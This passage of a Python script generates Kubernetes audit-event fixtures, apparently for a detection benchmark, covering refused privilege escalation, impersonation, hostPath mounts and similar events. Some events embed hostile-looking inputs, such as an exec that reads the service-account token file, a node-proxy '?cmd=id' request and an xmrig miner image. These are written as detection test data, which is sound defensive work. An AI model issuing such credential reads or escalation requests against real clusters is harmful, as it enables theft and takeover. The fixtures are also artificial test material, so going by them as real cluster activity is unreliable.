fx("namespace-pss-privileged",[ev("create","namespaces","","shop",req=nsobj({"pod-security.kubernetes.io/enforce":"privileged"})),ev("patch","namespaces","","shop",req={"metadata":{"labels":{"pod-security.kubernetes.io/enforce":None}}})],
   [ev("create","namespaces","","shop",req=nsobj({"pod-security.kubernetes.io/enforce":"restricted"})),ev("create","namespaces","","shop",req=nsobj({"team":"shop"}))])
# ---- cluster
fx("events-deleted",[ev("deletecollection","events","shop",level="Metadata"),ev("delete","events","shop","web.17a0c2",group="events.k8s.io",level="Metadata")],
   [ev("delete","events","shop","web.17a0c2",level="Metadata",user="system:kube-controller-manager"),ev("list","events","shop",level="Metadata")])
fx("repeated-forbidden",[ev("get","secrets","kube-system","s%d"%i,code=403,level="Metadata",user="system:serviceaccount:shop:web") for i in range(10)],
   [ev("get","secrets","kube-system","s%d"%i,code=403,level="Metadata",user="system:serviceaccount:shop:web") for i in range(9)]+[ev("get","pods","shop","p",level="Metadata",user="system:serviceaccount:shop:web")])
fx("node-modified-by-user",[ev("patch","nodes","","node1",req={"metadata":{"labels":{"tier":"db"}}}),ev("delete","nodes","","node2",level="Metadata")],
   [ev("patch","nodes","","node1",user="system:node:node1",req={"status":{}}),ev("get","nodes","","node1",level="Metadata")])
fx("audit-log-interference",[ev("update","configmaps","kube-system","audit-forwarder",req=cm("kube-system","audit-forwarder",{"endpoint":"http://127.0.0.1"}))],
   [ev("update","configmaps","kube-system","coredns",req=cm("kube-system","coredns",{})),ev("update","configmaps","shop","audit",req=cm("shop","audit",{}))])

# ---- refused attempts (issue 13 item 11): their own range of audit IDs and times
saved_n=n[0]; n[0]=100000
def adm(msg):  # refused by admission or validation: authorized, with the body logged
    return {"code":403,"decision":"allow","msg":msg}
def inval(msg):
    return {"code":422,"msg":msg}
PSS=lambda o,what: adm('%s "%s" is forbidden: violates PodSecurity "baseline:latest": %s' % (o["kind"].lower()+"s", o["metadata"]["name"], what))
HOOK=lambda o: adm('admission webhook "validate.kyverno.svc-fail" denied the request: resource %s/%s/%s was blocked' % (o["kind"], o["metadata"].get("namespace",""), o["metadata"]["name"]))
PSS_ANN={"pod-security.kubernetes.io/enforce-policy":"baseline:latest"}
# exec, attach, ephemeral containers
fx("pod-exec-refused",[execev("shop","web-7d9c-x2x",["/bin/sh","-c","cat /var/run/secrets/kubernetes.io/serviceaccount/token"],code=403,stage="ResponseComplete"),
   att("kube-system","coredns-5d78c9869d-abcde",code=403,stage="ResponseComplete"),
   ev("patch","pods","shop","web-7d9c-x2x",sub="ephemeralcontainers",code=403,req={"spec":{"ephemeralContainers":[{"name":"debugger-x7k2p","image":"busybox:1.36"}]}})],
   [execev("shop","web-7d9c-x2x",["ls"]),execev("shop","web-7d9c-x2x",["ls"],code=404,stage="ResponseComplete"),
    ev("get","pods","shop","web-7d9c-x2x",sub="ephemeralcontainers",code=403,level="Metadata"),
    execev("shop","web-7d9c-x2x",["ls"],code=403,stage="ResponseComplete",user="system:kube-controller-manager")])
# pods and workloads refused by admission (Pod Security, a webhook) or validation
priv_ds=pod("node-agent","monitoring",kind="DaemonSet",containers=[ctr("agent","quay.io/example/agent:2.1",sc={"privileged":True})])
fx("privileged-container-refused",[podev(priv,ann=PSS_ANN,**PSS(priv,'privileged (container "app" must not set securityContext.privileged=true)')),
   podev(priv_ds,**HOOK(priv_ds)),
   podev(priv,verb="update",**inval('Pod "debug" is invalid: spec: Forbidden: pod updates may not change fields other than `spec.containers[*].image`'))],
   [podev(priv),podev(benign,**HOOK(benign)),podev(priv,code=403,body=False),
    podev(priv,user=SA_CTRL,ann=PSS_ANN,**PSS(priv,'privileged (container "app" must not set securityContext.privileged=true)'))])
hp_sock=pod("h","shop",volumes=hp("/var/run/docker.sock")); hp_kube=pod("h","shop",kind="Deployment",volumes=hp("/etc/kubernetes/pki"))
fx("sensitive-hostpath-refused",[podev(hp_sock,ann=PSS_ANN,**PSS(hp_sock,'hostPath volumes (volume "host")')),podev(hp_kube,**HOOK(hp_kube))],
   [podev(hp_sock),podev(pod("h","shop",volumes=hp("/data/shop")),**HOOK(pod("h","shop"))),podev(hp_sock,code=403,body=False)])
hn=pod("net","shop",spec_extra={"hostNetwork":True}); capdep=pod("c","shop",kind="Deployment",containers=capc(["SYS_ADMIN","NET_ADMIN"])); hpid=pod("pid","shop",spec_extra={"hostPID":True})
fx("host-access-refused",[podev(hn,ann=PSS_ANN,**PSS(hn,'host namespaces (hostNetwork=true)')),podev(capdep,**HOOK(capdep)),
   podev(hpid,**inval('Pod "pid" is invalid: spec.containers[0].image: Required value'))],
   [podev(hn),podev(benign,ann=PSS_ANN,**PSS(benign,'')),podev(pod("c","shop",containers=capc(["NET_BIND_SERVICE"])),**HOOK(benign)),
    podev(hn,user=SA_CTRL,ann=PSS_ANN,**PSS(hn,'host namespaces (hostNetwork=true)'))])
ks=pod("helper","kube-system")
fx("pod-in-kube-system-refused",[podev(ks,code=403,body=False),podev(pod("helper","kube-system",kind="DaemonSet"),code=403,user="system:serviceaccount:shop:web")],
   [podev(ks),podev(pod("helper","shop"),code=403,body=False),podev(ks,code=403,body=False,user=SA_CTRL)])
miner=pod("m","shop",containers=[ctr(image="docker.io/minerhub/xmrig:6.21")])
fx("crypto-miner-image-refused",[podev(miner,**HOOK(miner))],[podev(miner),podev(benign,**HOOK(benign))])
# RBAC refused by RBAC's escalation check (the body is logged)
ESC=lambda who: adm('clusterroles.rbac.authorization.k8s.io "x" is forbidden: user "%s" (groups=["developers" "system:authenticated"]) is attempting to grant RBAC permissions not currently held' % who)
fx("privileged-role-refused",[crev(cr("ops-all",[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]),**ESC("alice@example.com")),
   crev(cr("imp",[{"apiGroups":[""],"resources":["users","groups"],"verbs":["impersonate"]}],kind="Role",ns="shop"),**ESC("alice@example.com")),
   crev(cr("debugger",[{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]}]),verb="update",**ESC("alice@example.com"))],
   [crev(viewer,**ESC("alice@example.com")),crev(cr("ops-all",[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}])),
    crev(cr("all",[{"apiGroups":[""],"resources":["*"],"verbs":["get","list"]}],kind="Role",ns="shop"),**ESC("alice@example.com"))])
fx("privileged-binding-refused",[crev(crb("eve-admin","cluster-admin",[U("eve@example.com")]),**ESC("alice@example.com")),
   crev(crb("open","view",[G("system:unauthenticated")]),**ESC("alice@example.com")),
   crev(crb("d","edit",[SA("shop","default")],kind="RoleBinding",ns="shop"),**ESC("alice@example.com"))],
   [crev(crb("view","view",[U("eve@example.com")]),**ESC("alice@example.com")),crev(crb("eve-admin","cluster-admin",[U("eve@example.com")])),
    crev(crb("eve-admin","cluster-admin",[U("eve@example.com")]),code=403,body=False)])
fx("system-rbac-change-refused",[ev("update","clusterroles","","system:node",group=R,code=403),ev("delete","clusterrolebindings","","system:kube-scheduler",group=R,code=403)],
   [ev("update","clusterroles","","app-role",group=R,code=403),ev("update","clusterroles","","system:node",group=R,req=cr("system:node",[])),
    ev("get","clusterroles","","system:node",group=R,code=403,level="Metadata")])
# secrets, DNS
fx("secret-list-by-user",[ev("list","secrets","shop",level="Metadata"),ev("watch","secrets","shop",level="Metadata",user="admin",imp={"username":"mallory","groups":["system:authenticated"]})],
   [ev("list","secrets","shop",level="Metadata",user="system:serviceaccount:shop:web"),ev("list","secrets","shop",level="Metadata",user="system:node:node1"),
    ev("list","secrets","shop",level="Metadata",code=403),ev("list","secrets",level="Metadata"),ev("get","secrets","shop","db-credentials",level="Metadata")])
F["secret-access-denied"]["alert"].append(ev("create","serviceaccounts","kube-system","clusterrole-aggregation-controller",sub="token",level="Metadata",code=403,user="system:serviceaccount:shop:web"))
F["secret-access-denied"]["quiet"]+=[ev("create","serviceaccounts","shop","web",sub="token",level="Metadata",code=403,user="system:node:node1"),ev("create","secrets","shop","db",level="Metadata",code=403)]
fx("coredns-configmap-change-refused",[ev("update","configmaps","kube-system","coredns",code=403),ev("patch","configmaps","kube-system","coredns",code=403,user="system:serviceaccount:shop:web")],
   [ev("update","configmaps","kube-system","coredns",req=cm("kube-system","coredns",{})),ev("update","configmaps","shop","coredns",code=403),ev("get","configmaps","kube-system","coredns",level="Metadata",code=403)])
# network
fx("service-external-ips-refused",[ev("create","services","shop","mitm",req=svc("shop","mitm",{"externalIPs":["8.8.8.8"]}),**adm('services "mitm" is forbidden: externalIPs are not allowed'))],
   [ev("create","services","shop","mitm",req=svc("shop","mitm",{"externalIPs":["8.8.8.8"]})),ev("create","services","shop","web",req=svc("shop","web",{}),**adm('services "web" is forbidden: quota exceeded'))])
fx("nodes-proxy-refused",[ev("get","nodes","","node1",sub="proxy",level="Metadata",code=403,uri="/api/v1/nodes/node1/proxy/run/kube-system/kube-proxy-x/kube-proxy?cmd=id"),
   ev("get","nodes","","node1",sub="proxy",level="Metadata",code=403,user="system:serviceaccount:shop:web",uri="/api/v1/nodes/node1/proxy/pods")],
   [ev("get","nodes","","node1",sub="proxy",level="Metadata",code=403,user="system:serviceaccount:monitoring:prometheus",uri="/api/v1/nodes/node1/proxy/metrics/cadvisor"),
    ev("get","nodes","","node1",sub="proxy",level="Metadata",code=403,uri="/api/v1/nodes/node1/proxy/stats/summary?only_cpu_and_memory=true"),
    ev("get","nodes","","node1",sub="proxy",stage="ResponseStarted",level="Metadata",uri="/api/v1/nodes/node1/proxy/pods")])
# identity: impersonation refused (recorded without the impersonated user), CSRs
IMP=lambda kind,target,who="eve@example.com",ns=None: {"code":403,"decision":"allow","msg":'%s "%s" is forbidden: User "%s" cannot impersonate resource "%s" in API group "" %s' % (kind,target,who,kind,'in the namespace "%s"' % ns if ns else "at the cluster scope")}
fx("impersonation-refused",[ev("get","pods","shop","web",user="eve@example.com",level="Metadata",**IMP("users","bob@example.com")),
   ev("list","secrets","",user="eve@example.com",level="Metadata",**IMP("groups","system:masters"))],
   [ev("get","pods","shop","web",user="eve@example.com",level="Metadata",code=403),ev("get","pods","shop","web",imp={"username":"bob@example.com"},level="Metadata")])
fx("impersonate-privileged-refused",[ev("list","secrets","",user="eve@example.com",level="Metadata",**IMP("groups","system:masters")),
   ev("get","nodes","","node1",user="eve@example.com",level="Metadata",**IMP("users","system:admin")),
   ev("create","pods","kube-system","",user="eve@example.com",level="Metadata",**IMP("serviceaccounts","replicaset-controller",ns="kube-system"))],
   [ev("get","pods","shop","web",user="eve@example.com",level="Metadata",**IMP("users","bob@example.com")),
    ev("get","pods","shop","web",user="eve@example.com",level="Metadata",**IMP("serviceaccounts","web",ns="shop")),
    ev("list","secrets","",user="eve@example.com",level="Metadata",code=403)])
masters=csrobj("eve-admin",CSR_EVE_MASTERS); masters2=csrobj("mallory",CSR_MALLORY_MASTERS)
csrev=lambda o,**kw: ev("create","certificatesigningrequests","",o["metadata"]["name"],group=C,req=o,**kw)
fx("csr-system-masters",[csrev(masters),csrev(masters2,user="system:serviceaccount:shop:web")],
   [csrev(csr),csrev(csrobj("eve-admin",CSR_EVE_MASTERS,signer="example.com/internal-ca")),csrev(masters,**adm('certificatesigningrequests.certificates.k8s.io "eve-admin" is forbidden: blocked'))])
fx("csr-system-masters-refused",[csrev(masters,**adm('admission webhook "csr.policy.example.com" denied the request: system:masters is not allowed')),
   csrev(masters2,**inval('CertificateSigningRequest.certificates.k8s.io "mallory" is invalid: spec.usages[0]: Unsupported value: "server auth"'))],
   [csrev(masters),csrev(csr,**adm('admission webhook "csr.policy.example.com" denied the request')),
    ev("create","certificatesigningrequests","","eve-admin",group=C,code=403)])
fx("csr-approval-refused",[ev("update","certificatesigningrequests","","eve-admin",sub="approval",group=C,code=403)],
   [ev("update","certificatesigningrequests","","eve-admin",sub="approval",group=C,req=csr),
    ev("update","certificatesigningrequests","","eve-admin",sub="approval",group=C,code=409,req=csr)])
F["permission-enumeration"]["alert"].append(ev("create","selfsubjectrulesreviews",group=A,user="system:serviceaccount:shop:web",level="Metadata",code=403))
# admission control
fx("admission-control-change-refused",[ev("create","mutatingwebhookconfigurations","","inject",group=AR,code=403),
   ev("delete","validatingwebhookconfigurations","","moat",group=AR,code=403),
   ev("patch","namespaces","","shop",req={"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}},**adm('namespaces "shop" is forbidden: blocked by policy'))],
   [ev("patch","validatingwebhookconfigurations","","policy",group=AR,code=403),ev("create","mutatingwebhookconfigurations","","inject",group=AR,req=mwc),
    ev("patch","namespaces","","shop",req={"metadata":{"labels":{"team":"shop"}}},**adm('namespaces "shop" is forbidden: blocked by policy'))])
F["pss-violation"]["alert"].append(podev(priv,ann={"pod-security.kubernetes.io/enforce-policy":"baseline:latest","pod-security.kubernetes.io/audit-violations":"would violate PodSecurity \"restricted:latest\": privileged (container \"app\" must not set securityContext.privileged=true)"},
   **PSS(priv,'privileged (container "app" must not set securityContext.privileged=true)')))
n[0]=saved_n

import shutil
shutil.rmtree(OUT, ignore_errors=True); os.makedirs(OUT)
for k,v in F.items():
    with open(os.path.join(OUT,k+".json"),"w") as f:
        json.dump(v,f,indent=1); f.write("\n")
print(len(F))

# ---- routine stream for the benchmark
import random
random.seed(7)
out=[]
nodes=["node%d"%i for i in range(1,6)]
for i in range(300):
    k=random.random()
    node=random.choice(nodes)
    if k<0.25:
        out.append(ev("update","leases","kube-node-lease",node,group="coordination.k8s.io",version="v1",user="system:node:"+node,level="Metadata",ua="kubelet/v1.37.2 (linux/amd64) kubernetes/abc1234"))
    elif k<0.4:
        out.append(ev("get","nodes","",node,user="system:node:"+node,level="Metadata",ua="kubelet/v1.37.2 (linux/amd64) kubernetes/abc1234"))
    elif k<0.5:
        out.append(ev("patch","nodes","",node,sub="status",user="system:node:"+node,level="Request",req={"status":{"conditions":[{"type":"Ready","status":"True","lastHeartbeatTime":"2026-11-23T10:00:00Z"}]}},ua="kubelet/v1.37.2 (linux/amd64) kubernetes/abc1234"))
    elif k<0.6:
        out.append(ev("watch","pods","",user="system:kube-scheduler",level="Metadata",query="resourceVersion=1234&timeoutSeconds=500",ua="kube-scheduler/v1.37.2"))
    elif k<0.7:
        out.append(ev("list","configmaps","shop",user="system:serviceaccount:shop:web",level="Metadata"))
    elif k<0.78:
        out.append(ev("get","secrets","shop","web-tls",user="system:node:"+node,level="Metadata"))
    elif k<0.86:
        out.append(ev("create","pods","shop","",user="system:serviceaccount:kube-system:replicaset-controller",req=pod("web-7d9c-%05d"%i,"shop"),level="Request",ua="kube-controller-manager/v1.37.2"))
    elif k<0.92:
        out.append(ev("update","endpointslices","shop","web-abcde",group="discovery.k8s.io",user="system:serviceaccount:kube-system:endpointslice-controller",level="Metadata"))
    elif k<0.96:
        out.append(ev("create","events","shop","",user="system:node:"+node,level="Metadata"))
    else:
        out.append(ev("get","deployments","shop","web",group="apps",user="alice@example.com",level="Metadata"))
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'routine.jsonl'),'w') as f:
    for e in out: f.write(json.dumps(e,separators=(",",":"))+"\n")
